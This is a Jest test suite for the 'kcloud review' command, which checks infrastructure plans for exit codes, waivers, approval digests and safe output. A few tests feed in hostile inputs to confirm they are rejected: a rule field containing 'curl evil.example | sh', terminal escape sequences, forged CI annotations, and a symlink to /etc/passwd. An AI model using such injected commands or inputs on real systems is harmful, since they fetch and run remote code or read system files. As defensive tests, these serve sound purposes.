import {
  appendFileSync,
  existsSync,
  mkdirSync,
  mkdtempSync,
  readdirSync,
  readFileSync,
  rmSync,
  symlinkSync,
  truncateSync,
  writeFileSync,
} from "node:fs";
import { tmpdir } from "node:os";
import { join } from "node:path";
import { afterEach, beforeEach, describe, expect, test } from "@jest/globals";
import type { Report } from "../../../review/report/report.ts";
import { rules } from "../../../review/rule/catalogue.ts";
import { canary } from "../change.ts";
import { runBuilt, runSources } from "./run.ts";

/** Exit codes of `kcloud review`, and the outputs of each. */

const fixtures = join(import.meta.dirname, "../fixture");
const plan = join(fixtures, "terraform-1.16.0.json");
const preview = join(fixtures, "pulumi.json");
const text = readFileSync(plan, "utf8");

/** Text of a file with a custom rule. */
const acme = `export default { id: "ACME-01", title: "T", severity: "low", confidence: "proven", about: "A.", remedy: "R.",
  check: ({ plans }) => [{ plan: plans[0].name, text: "x" }] };`;

/** Change of an object in a plan. */
interface Row {
  readonly address: string;
  readonly change: { readonly actions: readonly string[]; readonly before: unknown; readonly after: unknown };
}

let folder: string;

beforeEach(() => {
  folder = mkdtempSync(join(tmpdir(), "kcloud-review-"));
});

afterEach(() => rmSync(folder, { recursive: true }));

/** Day within the maximum time of a waiver. */
const soon = new Date(Date.now() + 30 * 86_400_000).toISOString().slice(0, 10);

const at = (name: string): string => join(folder, name);

function file(name: string, content: string | object): string {
  writeFileSync(at(name), typeof content === "string" ? content : JSON.stringify(content));
  return at(name);
}

/** Returns the plan with other values at its top level. */
const planWith = (values: object): string => file("other.json", { ...JSON.parse(text), ...values });

const report = (name = "report.json"): Report => JSON.parse(readFileSync(at(name), "utf8"));

function policy(content: object, rules: Readonly<Record<string, string>> = {}): string {
  mkdirSync(at("policy/rules"), { recursive: true });
  file("policy/kcloud-review.json", content);
  for (const [name, rule] of Object.entries(rules)) file(`policy/rules/${name}`, rule);
  return at("policy");
}

describe.each([
  ["from the sources", runSources],
  ["as built", runBuilt],
] as const)("the command %s", (_, run) => {
  /** Reviews with a JSON report in a file; returns code, messages and the report, if one was written. */
  const review = async (...args: string[]) => {
    const { code, stdout, stderr } = await run([...args, "--out", `json:${at("report.json")}`]);
    return { code, stdout, stderr, report: existsSync(at("report.json")) ? report() : undefined };
  };

  test("0: no finding at or above the threshold, with any changes", async () => {
    const ran = await review("--in", plan, "--fail-on", "none");
    expect([ran.code, ran.report?.verdict.code, ran.stderr]).toEqual([0, 0, ""]);
  });

  test("0: no changes, with --detailed-exitcode too", async () => {
    const without = { prior_state: {}, planned_values: {}, configuration: {}, output_changes: {} };
    const empty = planWith({ ...without, resource_changes: [], resource_drift: [] });
    expect((await review("--in", empty, "--detailed-exitcode")).code).toBe(0);
  });

  test("2: changes pass, with --detailed-exitcode only", async () => {
    const ran = await review("--in", plan, "--fail-on", "none", "--detailed-exitcode");
    expect([ran.code, ran.report?.verdict.code]).toEqual([2, 0]);
  });

  test("3: a finding blocks, and the report is written; --detailed-exitcode changes nothing", async () => {
    for (const more of [[], ["--detailed-exitcode"]]) {
      const ran = await review("--in", plan, ...more);
      expect([ran.code, ran.report?.verdict.code]).toEqual([3, 3]);
      expect(ran.stderr).toMatch(/^kcloud review: 1 plan .*\n {2}\d+ findings of severity critical\n$/);
    }
  });

  test("3: a report that is rendered again keeps its verdict", async () => {
    await review("--in", plan);
    const ran = await run(["--in", at("report.json"), "--out", "md"]);
    expect([ran.code, ran.stdout.split(":")[0]]).toEqual([3, "## 🛑 Blocked"]);
  });

  test.each([
    ["an errored plan", () => planWith({ errored: true }), /ended with an error/],
    ["a plan limited to targets", () => planWith({ complete: false }), /not complete/],
    ["another major version", () => planWith({ format_version: "2.0" }), /format version 2\.0/],
    [
      "a state",
      () => file("state.json", { lineage: "x", serial: 1, resources: [] }),
      /is a state, not a plan/,
    ],
    ["another document", () => file("package.json", { name: "x" }), /is neither a plan of/],
    ["a list", () => file("list.json", []), /is JSON, but not an object/],
    [
      "another archive",
      () => file("a.zip", "PK\u0003\u0004 and so on"),
      /is a plan file that cannot be read/,
    ],
  ] as const)("4: %s cannot be reviewed; the report shows the other plan", async (_name, input, message) => {
    const ran = await review("--in", `bad=${input()}`, "--in", `good=${preview}`, "--fail-on", "none");
    expect([ran.code, ran.report?.verdict.code]).toEqual([4, 4]);
    expect(ran.report?.verdict.reasons.join()).toMatch(message);
    expect(ran.report?.verdict.reasons.join()).toMatch(/^bad cannot be reviewed: /);
    expect(new Set(ran.report?.changes.map((change) => change.plan))).toContain("good");
  });

  test("4: a value that exceeds the maximum length of a string; the report names the limit", async () => {
    truncateSync(
      file("large.json", '{"format_version":"1.2","planned_values":{},"variables":"'),
      600 * 1024 ** 2,
    );
    const ran = await review("--in", at("large.json"), "--fail-on", "none");
    expect([ran.code, ran.report?.verdict.reasons.join()]).toEqual([
      4,
      "large cannot be reviewed: contains a value of more than 536870888 bytes, the maximum",
    ]);
  });

  test("0: a plan that exceeds the maximum length of a string is read in parts", async () => {
    const path = file("large.json", "");
    const spaces = Buffer.alloc(6 * 1024 ** 2, " ");
    for (let count = 0; count < 100; count++) appendFileSync(path, spaces);
    appendFileSync(path, text);
    const ran = await review("--in", `net=${path}`, "--fail-on", "none");
    expect(ran.code).toBe(0);
    await review("--in", `net=${plan}`, "--fail-on", "none");
    expect(ran.report?.changes).toEqual(report().changes);
  });

  test("4 takes precedence over 3", async () => {
    expect((await review("--in", planWith({ errored: true }))).code).toBe(4);
  });

  test.each([
    ["a missing file", () => ["--in", at("missing.json")], /missing .*ENOENT/],
    ["a folder", () => ["--in", folder], /EISDIR/],
    ["an empty file", () => ["--in", file("empty.json", "")], /empty is empty/],
    [
      "a text that is not JSON",
      () => ["--in", file("plan.txt", "No changes.")],
      /plan is not JSON, or is truncated/,
    ],
    [
      "truncated JSON",
      () => ["--in", file("cut.json", text.slice(0, -100))],
      /cut is not JSON, or is truncated/,
    ],
    [
      "a truncated report",
      () => ["--in", file("cut.json", '{"schemaVersion": 1, "ver')],
      /cut is not JSON, or is truncated/,
    ],
    [
      "a report of another version",
      () => ["--in", file("r.json", { schemaVersion: 2 })],
      /not a JSON report of this version/,
    ],
    [
      "a truncated previous report",
      () => ["--in", plan, "--previous", file("cut.json", "{")],
      /is not JSON, or is truncated/,
    ],
    ["no input", () => [], /--in PATH is required/],
    [
      "a --synth file that is not a configuration of a program",
      () => ["--in", plan, "--synth", file("cdk.tf.json", "{}")],
      /cdk\.tf\.json is not a configuration of CDKTF or CDKTN/,
    ],
    [
      "a --synth file of an unknown input",
      () => ["--in", plan, "--synth", "other=cdk.tf.json"],
      /--synth other=cdk\.tf\.json must name an input/,
    ],
    ["an unknown option", () => ["--in", plan, "--nope"], /--nope/],
    ["an unknown format", () => ["--in", plan, "--out", "pdf"], /--out must be one of/],
    ["an unknown severity", () => ["--in", plan, "--fail-on", "fatal"], /--fail-on must be one of/],
    ["two inputs of one name", () => ["--in", plan, "--in", plan], /two inputs are called/],
    [
      "two outputs on standard output",
      () => ["--in", plan, "--out", "md", "--out", "text"],
      /only one output/,
    ],
    [
      "two outputs in one file",
      () => ["--in", plan, "--out", `md:${at("a")}`, "--out", `text:${at("x/../a")}`],
      /two outputs go to/,
    ],
    ["an output without its path", () => ["--in", plan, "--out", "md:"], /the path is missing/],
    [
      "a missing policy folder",
      () => ["--in", plan, "--policy", at("none")],
      /none cannot be read: .*ENOENT/,
    ],
    [
      "a policy that is not JSON",
      () => {
        const path = policy({});
        file("policy/kcloud-review.json", "{");
        return ["--in", plan, "--policy", path];
      },
      /kcloud-review.json is not JSON/,
    ],
    [
      "an unknown profile",
      () => ["--in", plan, "--policy", policy({}), "--profile", "prod"],
      /unknown profile "prod"/,
    ],
    [
      "a profile with the name of a method",
      () => ["--in", plan, "--policy", policy({}), "--profile", "toString"],
      /unknown profile "toString"/,
    ],
    [
      "a waiver until a day that does not exist",
      () => {
        const waiver = { rule: "DATA-01", address: "a", owner: "ann", reason: "x", until: "2999-02-31" };
        return ["--in", plan, "--policy", policy({ waivers: [waiver] })];
      },
      /waivers\.0\.until: must be a date such as 2027-01-31/,
    ],
    [
      "an unknown rule in a profile",
      () => ["--in", plan, "--policy", policy({ profiles: { default: { severity: { "NET-1": "off" } } } })],
      /names an unknown rule: NET-1/,
    ],
    ["a rule that throws", () => ["--in", plan, "--policy", policy({}, { "a.js": "throw 1" })], /a\.js: 1$/m],
    [
      "a trusted policy that cannot be read",
      () => ["--in", plan, "--policy-head", at("none"), "--trust-head"],
      /none cannot be read/,
    ],
  ] as const)("1: %s; nothing is written", async (_name, args, message) => {
    const ran = await review(...args());
    expect([ran.code, ran.report, ran.stdout]).toEqual([1, undefined, ""]);
    expect(ran.stderr).toMatch(/^kcloud review: /);
    expect(ran.stderr).toMatch(message);
    expect(ran.stderr).not.toMatch(/\n {4}at /);
  });

  test("1: a report cannot be reviewed with another threshold, nor next to a plan", async () => {
    await review("--in", plan);
    for (const more of [["--fail-on", "none"], ["--policy", policy({})], ["--trust-head"]])
      expect(await run(["--in", at("report.json"), ...more])).toMatchObject({
        code: 1,
        stderr: expect.stringContaining("are those of the JSON report"),
      });
    expect(await run(["--in", at("report.json"), "--in", plan])).toMatchObject({
      code: 1,
      stderr: expect.stringContaining("must be the only input"),
    });
  });

  test("sources are below the folder of their program, and findings without one are at it", async () => {
    const ran = await run([
      ...["--in", `app=${preview}`, "--in", `net=${plan}`, "--root", "app=infra/app", "--root", "net=infra"],
      ...["--out", `sarif:${at("r.sarif")}`, "--out", `gitlab:${at("r.json")}`],
    ]);
    expect(ran.code).toBe(3);
    const { results } = JSON.parse(readFileSync(at("r.sarif"), "utf8")).runs[0];
    const uris = results.map(
      (result: { locations: { physicalLocation: { artifactLocation: { uri: string } } }[] }) =>
        result.locations[0]?.physicalLocation.artifactLocation.uri,
    );
    const paths = JSON.parse(readFileSync(at("r.json"), "utf8")).map(
      ({ location }: { location: { path: string } }) => location.path,
    );
    for (const files of [uris, paths])
      expect(new Set(files)).toEqual(new Set(["infra/app/index.js", "infra/app", "infra"]));
    expect(await run(["--in", `net=${plan}`, "--root", "app=infra"])).toMatchObject({
      code: 1,
      stderr: expect.stringContaining("--root: no input is called app"),
    });
  });

  test("1: if one output cannot be written, none is, and no temporary file remains", async () => {
    writeFileSync(at("file"), "");
    const bad = [at("file/below.md"), folder];
    for (const path of bad) {
      const ran = await review("--in", plan, "--out", `md:${path}`);
      expect([ran.code, ran.report]).toEqual([1, undefined]);
      expect(ran.stderr).toContain(`${path} cannot be written: `);
    }
    expect(readdirSync(folder)).toEqual(["file"]);
  });

  test("missing folders of outputs are created, and files are replaced atomically", async () => {
    const old = at("deep/er/comment.md");
    for (const content of ["", "x".repeat(1_000_000)]) {
      mkdirSync(at("deep/er"), { recursive: true });
      writeFileSync(old, content);
      await run(["--in", plan, "--out", `md:${old}`, "--out", `sarif:${at("new/report.sarif")}`]);
      expect(readFileSync(old, "utf8")).toMatch(/^## 🛑 Blocked[\s\S]*Approval digest: `kr2-[0-9a-f]{64}`/);
      expect(JSON.parse(readFileSync(at("new/report.sarif"), "utf8")).version).toBe("2.1.0");
    }
  });

  test("an output can be a device", async () => {
    expect((await run(["--in", plan, "--fail-on", "none", "--out", "md:/dev/null"])).code).toBe(0);
  });

  test("1: the error about JSON that is nested too deeply names the problem", async () => {
    for (const depth of [3_000, 200_000]) {
      const value = `${"[".repeat(depth)}${"]".repeat(depth)}`;
      const row = `{"address":"a.b","type":"a","mode":"managed","change":{"actions":["create"],"before":null,"after":{"x":${value}}}}`;
      const deep = `{"format_version":"1.2","planned_values":{},"resource_changes":[${row}]}`;
      const ran = await review("--in", file("deep.json", deep));
      expect([ran.code, ran.report, ran.stderr]).toEqual([
        1,
        undefined,
        expect.stringMatching(/^kcloud review: .*nested too deeply\n$/),
      ]);
    }
  });

  test("a file in UTF-16, as PowerShell writes it, or with a byte-order mark, is read", async () => {
    for (const content of [Buffer.from(`\ufeff${text}`, "utf16le"), Buffer.from(`\ufeff${text}`)]) {
      writeFileSync(at("shell.json"), content);
      expect((await review("--in", at("shell.json"), "--fail-on", "none")).code).toBe(0);
    }
  });

  test("2: a plan with only an action has changes", async () => {
    const actions = JSON.parse(readFileSync(join(fixtures, "terraform-actions.json"), "utf8"));
    const without = { prior_state: {}, planned_values: {}, configuration: {} };
    const only = file("only.json", { ...actions, ...without, resource_changes: [] });
    expect((await review("--in", only, "--fail-on", "none", "--detailed-exitcode")).code).toBe(2);
  });

  test("1: a report with a command instead of a rule or a digest, or with another code, is invalid", async () => {
    await review("--in", plan);
    const whole = report();
    const [finding] = whole.findings;
    const forged = [
      { findings: [{ ...finding, rule: "DATA-01; curl evil.example | sh" }] },
      { approval: { ...whole.approval, digest: "kr2-0 | sh" } },
      { verdict: { ...whole.verdict, code: 256 } },
    ];
    for (const part of forged)
      expect(await run(["--in", file("forged.json", { ...whole, ...part })])).toMatchObject({
        code: 1,
        stderr: expect.stringContaining("is not a JSON report of this version"),
      });
  });

  describe("verify", () => {
    const verify = (...args: string[]) => run(["verify", ...args]);
    const approved = async (...inputs: string[]): Promise<string> =>
      (await review(...inputs.flatMap((input) => ["--in", input]))).report?.approval.digest ?? "";

    test("0: the approved plans, in any order and under any name", async () => {
      const digest = await approved(plan, preview);
      const ran = await verify("--in", `x=${preview}`, "--in", `y=${plan}`, "--approved", digest);
      expect([ran.code, ran.stderr]).toEqual([0, ""]);
      expect(ran.stdout).toMatch(
        /^These are the approved plans, with \d+ changes\. Their prior state was not compared/,
      );
    });

    test("0: the approved plan, made from the reviewed state", async () => {
      const digest = await approved(plan);
      const ran = await verify("--in", plan, "--approved", digest, "--report", at("report.json"));
      expect([ran.code, ran.stdout]).toEqual([
        0,
        expect.stringMatching(/^These are the approved plans, with 9 changes\.\nIt covers only .* sensitive/),
      ]);
    });

    test("5: another plan; the outputs show it, and what changed since the approved one", async () => {
      const digest = await approved(plan);
      const { resource_changes: rows } = JSON.parse(text);
      const same = (row: Row): Row =>
        row.change.actions[0] === "update"
          ? { ...row, change: { ...row.change, actions: ["no-op"], after: row.change.before } }
          : row;
      const before = new Map(rows.map((row: Row) => [row.address, same(row).change.after]));
      const { planned_values: planned } = JSON.parse(text);
      for (const object of planned.root_module.resources) object.values = before.get(object.address);
      const less = planWith({ planned_values: planned, resource_changes: rows.map(same) });
      const ran = await verify(
        "--in",
        `terraform-1.16.0=${less}`,
        "--approved",
        digest,
        "--report",
        at("report.json"),
        "--out",
        `json:${at("verify.json")}`,
      );
      expect(ran.code).toBe(5);
      expect(ran.stderr).toContain("These are not the approved plans.");
      expect(ran.stderr).toContain(`not the approved ${digest}`);
      expect(report("verify.json").verdict).toMatchObject({
        code: 5,
        reasons: [expect.stringContaining(digest)],
      });
      // The review had a policy, and verify has none: their findings are not compared.
      const { added = [], changed = [], removed = [] } = report("verify.json").since ?? {};
      expect([added, changed]).toEqual([[], []]);
      expect(removed.length).toBeGreaterThan(0);
      expect(removed.filter((name) => !name.startsWith("terraform-1.16.0: update "))).toEqual([]);
      const shown = await verify("--in", less, "--approved", digest, "--out", "text");
      expect([shown.code, shown.stdout.slice(0, 14)]).toEqual([5, "Not approved: "]);
    });

    test("5: the approved changes, but from another state", async () => {
      const digest = await approved(plan);
      const { prior_state: prior } = JSON.parse(text);
      prior.values.outputs = { size: { value: 1, sensitive: false } };
      const later = planWith({ prior_state: prior });
      const ran = await verify(
        "--in",
        `terraform-1.16.0=${later}`,
        "--approved",
        digest,
        "--report",
        at("report.json"),
      );
      expect(ran.code).toBe(5);
      expect(ran.stderr).toContain("terraform-1.16.0: the state changed since the review.");
    });

    test("5: a plan that is not in the report", async () => {
      const digest = await approved(plan);
      const ran = await verify("--in", `other=${plan}`, "--approved", digest, "--report", at("report.json"));
      expect([ran.code, ran.stderr]).toEqual([5, expect.stringContaining("other is not in the report")]);
    });

    test("5: a digest of an earlier version, with that reason", async () => {
      const digest = await approved(plan);
      const ran = await verify("--in", plan, "--approved", digest.replace("kr2-", "kr1-"));
      expect([ran.code, ran.stderr]).toEqual([5, expect.stringContaining("digest is of version kr1")]);
    });

    test("4: --require-covered, if the digest does not cover every effect; else 0, and the output names them", async () => {
      const actions = join(fixtures, "terraform-actions.json");
      const digest = await approved(actions);
      const passed = await verify("--in", actions, "--approved", digest);
      expect([passed.code, passed.stdout]).toEqual([0, expect.stringContaining("It does not cover: ")]);
      const refused = await verify("--in", actions, "--approved", digest, "--require-covered");
      expect([refused.code, refused.stderr]).toEqual([4, expect.stringContaining("It does not cover: ")]);
    });

    test("4: a plan that cannot be reviewed, even if its digest is approved", async () => {
      const partial = planWith({ complete: false });
      const digest = await approved(partial);
      const ran = await verify("--in", partial, "--approved", digest);
      expect([ran.code, ran.stderr]).toEqual([4, expect.stringContaining("cannot be verified")]);
    });

    test("4 and 5: the output contains no control character, no command and no secret", async () => {
      const hostile = "\u001b[2J\n::error::forged echo ";
      const { resource_changes: rows } = JSON.parse(text);
      const [row, ...others] = rows;
      const unknown = {
        ...row,
        address: `${hostile}${canary}`,
        change: { ...row.change, actions: ["explode"] },
      };
      const other = planWith({ resource_changes: [unknown, ...others] });
      for (const [path, approved] of [
        [other, "kr2-0"],
        [plan, hostile],
      ] as const) {
        const { stderr } = await verify("--in", path, "--approved", approved);
        // biome-ignore lint/suspicious/noControlCharactersInRegex: they are what must not occur.
        expect(stderr).not.toMatch(/[\u0000-\u0009\u000b-\u001f]|^\s*::error::/m);
        expect(stderr).not.toContain(canary);
        expect(stderr).toContain("forged");
      }
    });

    test("1: without a digest, with a report instead of a plan, with invalid JSON", async () => {
      const digest = await approved(plan);
      expect((await verify("--in", plan)).code).toBe(1);
      expect((await verify("--in", plan, "--approved", digest, "--fail-on", "none")).code).toBe(1);
      expect((await verify("--in", at("report.json"), "--approved", digest)).code).toBe(1);
      expect((await verify("--in", file("cut.json", "{"), "--approved", digest)).code).toBe(1);
      expect((await verify("--in", plan, "--approved", digest, "--report", plan)).code).toBe(1);
      expect((await run(["--in", plan, "--approved", digest])).code).toBe(1);
    });

    test("a key makes sensitive values part of the digest", async () => {
      const withKey = { KCLOUD_REVIEW_KEY: "key" };
      const keyed = await run(["--in", plan, "--out", "json"], withKey);
      const { approval } = JSON.parse(keyed.stdout) as Report;
      expect(approval.coversSensitive).toBe(true);
      expect((await run(["verify", "--in", plan, "--approved", approval.digest], withKey)).code).toBe(0);
      expect((await run(["verify", "--in", plan, "--approved", approval.digest])).code).toBe(5);
      const other = file("other.json", text.replaceAll("again", "encore"));
      expect((await run(["verify", "--in", other, "--approved", approval.digest], withKey)).code).toBe(5);
    });
  });

  test("0 and 1: explain", async () => {
    expect(await run(["explain", "data-01"])).toMatchObject({
      code: 0,
      stdout: expect.stringMatching(/^DATA-01: /),
    });
    expect(await run(["explain", "ACME-01", "--policy", policy({}, { "a.js": acme })])).toMatchObject({
      code: 0,
      stdout: expect.stringMatching(/^ACME-01: T\n/),
    });
    expect((await run(["explain", "DATA-02"])).stdout).toContain(
      "Set delete_on_termination (Pulumi: deleteOnTermination) to false",
    );
    expect((await run(["explain", "META-06"])).stdout).toMatch(/^META-06: A waiver has expired\n/);
    expect(await run(["explain", "DATA-99"])).toMatchObject({
      code: 1,
      stderr: expect.stringContaining("unknown rule"),
    });
    expect(await run(["explain", "DATA-01", "DATA-02"])).toMatchObject({
      code: 1,
      stderr: 'kcloud review: unexpected argument "DATA-02"; see kcloud review --help\n',
    });
  });

  test("0: explain without a rule lists all, and docs/rules.md explains each in the same words", async () => {
    const { code, stdout } = await run(["explain", "--policy", policy({}, { "a.js": acme })]);
    const [list = ""] = stdout.split("\n\n");
    const lines = list.split("\n");
    expect([code, lines[0]]).toEqual([0, "ACME-01  low       T"]);
    expect(lines).toContain("META-06  medium    A waiver has expired");
    const page = readFileSync(join(fixtures, "../../../docs/rules.md"), "utf8").replaceAll("\\", "");
    const titles = [...page.matchAll(/^## ([A-Z]+-\d+): (.*)$/gm)].map(([, id, title]) => `${id} ${title}`);
    expect(lines.slice(1).map((line) => line.replace(/ +\w+ +/, " "))).toEqual(titles);
    const { stdout: text } = await run(["explain", "DATA-02"]);
    const [title = "", ...paragraphs] = text.slice(0, text.indexOf("\n\nTo waive it")).split(/\n+/);
    expect(paragraphs).toHaveLength(3);
    expect(page).toContain(`## ${title}\n\n${paragraphs.join("\n\n")}\n`);
  });

  test("0 and 1: waive", async () => {
    const args = [
      "--address",
      "kcloud_*",
      "--owner",
      "ann",
      "--reason",
      "empty",
      "--until",
      soon,
      "--policy",
      at("new"),
    ];
    expect((await run(["waive", "data-01", ...args])).code).toBe(0);
    expect(JSON.parse(readFileSync(at("new/kcloud-review.json"), "utf8"))).toEqual({
      waivers: [{ rule: "DATA-01", address: "kcloud_*", owner: "ann", reason: "empty", until: soon }],
    });
    for (const wrong of [
      ["waive", ...args],
      ["waive", "DATA-99", ...args],
      ["waive", "DATA-01", ...args.with(-3, "2020-01-01")],
      ["waive", "DATA-01", ...args.with(-3, "soon")],
      ["waive", "DATA-01", ...args.with(-3, "2999-01-01")],
      ["waive", "DATA-01", ...args.with(1, "*")],
      ["waive", "DATA-01", ...args.slice(2)],
    ])
      expect((await run(wrong)).code).toBe(1);
  });

  test("waive --report: waivers of the findings of a report, which apply to the same values of the same objects only", async () => {
    const env = { KCLOUD_REVIEW_KEY: "key" };
    const keyed = async (path: string, ...more: string[]) => {
      const out = `json:${at("report.json")}`;
      return { ...(await run(["--in", `net=${path}`, ...more, "--out", out], env)), report: report() };
    };
    await keyed(plan);
    const folderOf = policy({});
    const decision = ["--owner", "ann", "--reason", "agreed", "--until", soon, "--policy", folderOf];
    const ids = new Set(report().findings.map(({ rule }) => rule));
    for (const id of ids)
      expect((await run(["waive", id, "--report", at("report.json"), ...decision])).code).toBe(0);
    expect((await run(["waive", "DATA-08", "--report", at("report.json"), ...decision])).code).toBe(1);
    expect(await keyed(plan, "--policy", folderOf)).toMatchObject({ code: 0 });
    const other = file("other.json", text.replaceAll(/"port_range_max": ?22\b/g, '"port_range_max":23'));
    const ran = await keyed(other, "--policy", folderOf);
    const open = ran.report.findings.filter(({ waiver }) => waiver === undefined);
    expect([ran.code, open.map(({ rule }) => rule)]).toEqual([3, ["NET-01"]]);
    await review("--in", `net=${plan}`);
    const hidden = await run(["waive", "OPS-03", "--report", at("report.json"), ...decision]);
    expect([hidden.code, hidden.stderr]).toEqual([1, expect.stringContaining("KCLOUD_REVIEW_KEY")]);
  });

  test("a waiver by address does not apply to an object that the plan moves to this address", async () => {
    const [address, rows] = ["kcloud_volume.logs", JSON.parse(text).resource_changes];
    const moved = planWith({
      resource_changes: rows.map((row: { address: string }) =>
        row.address === address ? { ...row, previous_address: "kcloud_volume.old" } : row,
      ),
    });
    const waiver = { rule: "DATA-01", address, owner: "ann", reason: "agreed", until: soon };
    const waived = async (path: string) =>
      (await review("--in", path, "--policy", policy({ waivers: [waiver] }))).report?.findings.find(
        (finding) => finding.rule === "DATA-01" && finding.address === address,
      )?.waiver !== undefined;
    expect([await waived(plan), await waived(moved)]).toEqual([true, false]);
  });

  test("waivers of the base revision apply, those of the reviewed revision are only shown", async () => {
    const waivers = rules.flatMap(({ id }) =>
      ["kcloud_*", "terraform-*"].map((address) => ({
        ...{ rule: id, address, owner: "ann", reason: "agreed", until: soon },
      })),
    );
    const folderOf = policy({ waivers });
    expect(await review("--in", plan, "--policy", folderOf)).toMatchObject({ code: 0 });
    const ran = await review("--in", plan, "--policy-head", folderOf);
    expect(ran.code).toBe(3);
    expect(ran.report?.policyChanges).toMatchObject({ trusted: false, lines: { length: 21 } });
    const trusted = await review("--in", plan, "--policy-head", folderOf, "--trust-head");
    expect(trusted).toMatchObject({ code: 0, report: { policyChanges: { trusted: true } } });
  });

  test("a policy of the reviewed revision with many long waivers is shown in short form, with their number", async () => {
    const waivers = Array.from({ length: 500 }, (_, at) => ({
      rule: "DATA-01",
      address: `${at}`,
      owner: "ann",
      reason: "x".repeat(1_000),
      until: soon,
    }));
    const ran = await review("--in", plan, "--policy-head", policy({ waivers }));
    const lines = ran.report?.policyChanges.lines ?? [];
    expect([lines.length, lines.at(-1)]).toEqual([21, "And 480 more changes."]);
    for (const line of lines.slice(0, -1)) expect(line).toMatch(/^.{300}… \(\d+ characters\)$/);
  });

  test("rules of the reviewed revision do not run without --trust-head", async () => {
    const folderOf = policy({}, { "a.js": "throw new Error('it ran')" });
    const ran = await review("--in", plan, "--policy-head", folderOf);
    expect([ran.code, ran.report?.policyChanges.lines]).toEqual([3, ['Adds the rule file "a.js".']]);
    const trusted = await review("--in", plan, "--policy-head", folderOf, "--trust-head");
    expect([trusted.code, trusted.stderr]).toEqual([1, expect.stringContaining("it ran")]);
  });

  test("a policy of the reviewed revision that cannot be read is reported without quoting a file of this machine", async () => {
    mkdirSync(at("head"));
    symlinkSync("/etc/passwd", at("head/kcloud-review.json"));
    const ran = await review("--in", plan, "--policy-head", at("head"));
    expect(ran.report?.policyChanges.lines).toEqual([
      expect.stringMatching(/^The policy of this revision cannot be read: .* is not a regular file\.$/),
    ]);
  });

  test("an expired waiver is a finding, and the finding counts again", async () => {
    const waiver = {
      rule: "DATA-01",
      address: "kcloud_*",
      owner: "ann",
      reason: "agreed",
      until: "2020-01-01",
    };
    const ran = await review("--in", plan, "--policy", policy({ waivers: [waiver] }));
    expect(ran.code).toBe(3);
    const expired = ran.report?.findings.filter(({ rule }) => rule === "META-06") ?? [];
    expect(expired.map(({ text: said }) => said).join()).toMatch(
      /The waiver of DATA-01 for .* by ann ended on 2020-01-01\./,
    );
    const off = policy({ waivers: [waiver], profiles: { default: { severity: { "META-06": "off" } } } });
    const second = await review("--in", plan, "--policy", off);
    expect(second.report?.findings.some(({ rule }) => rule === "META-06")).toBe(false);
  });

  test("texts of a policy and of a foreign report are printed without control characters", async () => {
    const waiver = {
      rule: "DATA-01",
      address: "kcloud_*",
      owner: "a\u001b[2Jnn",
      reason: "\u202eagreed",
      until: soon,
    };
    const folderOf = policy({ waivers: [waiver] });
    const shown = await run(["--in", plan, "--policy", folderOf, "--policy-head", folderOf]);
    await review("--in", plan);
    const forged = { ...report(), verdict: { ...report().verdict, line: "\u001b[2J\u202efine" } };
    const again = await run(["--in", file("forged.json", { ...forged })]);
    // biome-ignore lint/suspicious/noControlCharactersInRegex: they are what must not occur.
    for (const { stdout } of [shown, again]) expect(stdout).not.toMatch(/[\u0000-\u0009\u000b-\u001f\u202e]/);
    expect(again.stdout).toContain("fine");
  });
});
